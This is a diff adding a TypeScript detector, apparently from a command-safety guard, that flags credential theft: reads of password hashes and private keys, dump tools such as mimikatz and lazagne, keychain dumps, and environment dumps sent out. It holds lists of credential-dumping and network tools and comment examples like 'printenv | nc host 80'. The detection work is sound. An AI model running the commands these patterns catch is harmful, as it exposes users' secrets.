@@ -1,0 +1,187 @@
+import { Severity } from "../../../../gen/guard/v1/types_pb.js";
+import { append } from "../append.js";
+import { normalizePath, pathTokens, secretKind } from "../paths.js";
+import type { Analysis, Invocation } from "../shell/analyze.js";
+import { type Hit, hitOn, NETWORK_SENDERS, operands } from "./types.js";
+
+/**
+ * Credential dumping: reading the system password hashes, private keys, cloud and tool
+ * credential files, browser password stores, process environments; dumping tools such as
+ * mimikatz; environment dumps sent over the network. System hash files count whatever program
+ * touches them (GTFOBins reads them through hundreds of unrelated programs); per-user secrets
+ * count only when a program reads them out, because `ssh -i ~/.ssh/id_rsa` and
+ * `chmod 600 ~/.ssh/id_rsa` are how keys are meant to be used.
+ */
+
+const USER_SECRET_READERS: ReadonlySet<string> = new Set([
+  "cat",
+  "tac",
+  "less",
+  "more",
+  "head",
+  "tail",
+  "strings",
+  "xxd",
+  "od",
+  "hexdump",
+  "base64",
+  "base32",
+  "cp",
+  "mv",
+  "tar",
+  "zip",
+  "7z",
+  "gzip",
+  "bzip2",
+  "xz",
+  "sqlite3",
+  "grep",
+  "awk",
+  "sed",
+  "nl",
+  "dd",
+  "openssl",
+  "gpg",
+  "uuencode",
+  "python",
+  "python3",
+  "perl",
+  "ruby",
+  "node",
+  "php",
+  "curl",
+  "wget",
+  "nc",
+  "ncat",
+  "netcat",
+  "scp",
+  "rsync",
+  "sftp",
+  "vim",
+  "vi",
+  "nano",
+  "jq",
+  "cut",
+  "sort",
+  "uniq",
+  "bat",
+  "install",
+  "lua",
+  "xclip",
+  "pbcopy",
+]);
+
+/** Programs that look at a file's name or attributes, never its content. */
+const METADATA_ONLY: ReadonlySet<string> = new Set([
+  "ls",
+  "stat",
+  "test",
+  "[",
+  "getfacl",
+  "lsattr",
+  "namei",
+  "readlink",
+  "realpath",
+  "basename",
+  "dirname",
+  "chmod",
+  "chown",
+  "chgrp",
+  "du",
+  "which",
+]);
+
+/** Code that reads file content (as opposed to merely naming a path, as `ssh -i` does). */
+const READ_API =
+  /open\(|read|ReadFile|file_get_contents|readFileSync|io\.open|IO\.read|FileReader|slurp|cat |copy|cp\(/i;
+
+const DUMP_TOOLS =
+  /^(mimikatz(\.exe)?|pypykatz|secretsdump(\.py)?|lazagne(\.py|\.exe)?|procdump(64)?(\.exe)?|unshadow|gsecdump|wce(\.exe)?|pwdump[0-9]?|mimipenguin(\.sh|\.py)?|linpeas\.sh|laZagne)$/i;
+const DUMP_WORDS =
+  /sekurlsa|lsadump|logonpasswords|lsass|hklm\\sam|hklm\\security|hklm\\system|dump-keychain/i;
+
+function secretAccess(inv: Invocation): Hit[] {
+  const reads = USER_SECRET_READERS.has(inv.name);
+  const candidates: string[] = [inv.program, ...inv.args];
+  for (const w of [...inv.words, ...inv.assignments]) append(candidates, pathTokens(w));
+  for (const r of inv.redirects) if (r.op === "<" || r.op === "<&") candidates.push(r.target.text);
+  for (const a of inv.args) {
+    const at = a.indexOf("@");
+    if (at !== -1) candidates.push(a.slice(at + 1));
+    const eq = a.indexOf("=");
+    if (eq !== -1) candidates.push(a.slice(eq + 1));
+  }
+  for (const r of inv.redirects) if (r.body !== undefined) append(candidates, pathTokens(r.body));
+  for (const c of candidates) {
+    const kind = secretKind(c);
+    if (kind === "system" && !METADATA_ONLY.has(inv.name)) {
+      return [hitOn(inv, "system-secrets", Severity.HIGH, 0.9, `accesses ${normalizePath(c)}`)];
+    }
+    const redirected = inv.redirects.some((r) => (r.op === "<" || r.op === "<&") && r.target.text === c);
+    if (kind === "user" && (reads || redirected) && !c.endsWith(".pub")) {
+      return [hitOn(inv, "user-secrets", Severity.HIGH, 0.8, `reads ${normalizePath(c)}`)];
+    }
+  }
+  return [];
+}
+
+function dumpTools(inv: Invocation): Hit[] {
+  if (DUMP_TOOLS.test(inv.name) || inv.args.some((a) => DUMP_WORDS.test(a))) {
+    return [hitOn(inv, "dump-tool", Severity.HIGH, 0.9, "runs a credential dumping tool")];
+  }
+  if (
+    inv.name === "security" &&
+    inv.args.some(
+      (a) => a === "dump-keychain" || a === "find-generic-password" || a === "find-internet-password",
+    ) &&
+    inv.args.some((a) => a === "-w" || a === "-g" || a === "-d" || a === "dump-keychain")
+  ) {
+    return [hitOn(inv, "keychain-dump", Severity.HIGH, 0.85, "reads passwords from the keychain")];
+  }
+  return [];
+}
+
+const ENV_DUMPERS: ReadonlySet<string> = new Set(["env", "printenv", "set", "export", "declare"]);
+
+/** `env`, `printenv`, `set`: `env` with no command is a wrapper that ran nothing, so name is empty. */
+function isEnvDump(m: Invocation): boolean {
+  if (m.name === "" && m.words[0] === "env") return true;
+  return ENV_DUMPERS.has(m.name) && operands(m.args).length === 0;
+}
+
+/** `env | curl -d @- ...`, `printenv | nc host 80`: the whole environment leaves the host. */
+function envDumpsOut(analysis: Analysis): Hit[] {
+  const hits: Hit[] = [];
+  for (const p of analysis.pipelines) {
+    const dump = p.invocations.findIndex(isEnvDump);
+    const send = p.invocations.findIndex((m) => NETWORK_SENDERS.has(m.name));
+    if (dump !== -1 && send > dump)
+      hits.push(hitOn(p, "env-dump-out", Severity.HIGH, 0.85, "environment variables sent over the network"));
+  }
+  return hits;
+}
+
+/** Interpreter code opening credential files (`open("/etc/shadow")`). */
+function codeSecrets(analysis: Analysis): Hit[] {
+  const hits: Hit[] = [];
+  for (const c of analysis.code) {
+    const reads = READ_API.test(c.code);
+    const path = pathTokens(c.code).find((t) => {
+      const kind = secretKind(t);
+      return (kind === "system" || (kind === "user" && reads)) && !t.endsWith(".pub");
+    });
+    if (path !== undefined)
+      hits.push(
+        hitOn(c, "code-secrets", Severity.HIGH, 0.85, `${c.interpreter} code reads ${normalizePath(path)}`),
+      );
+  }
+  return hits;
+}
+
+export function credentials(analysis: Analysis): Hit[] {
+  const hits: Hit[] = [];
+  for (const inv of analysis.invocations) hits.push(...secretAccess(inv), ...dumpTools(inv));
+  append(hits, envDumpsOut(analysis));
+  append(hits, codeSecrets(analysis));
+  return hits;
+}
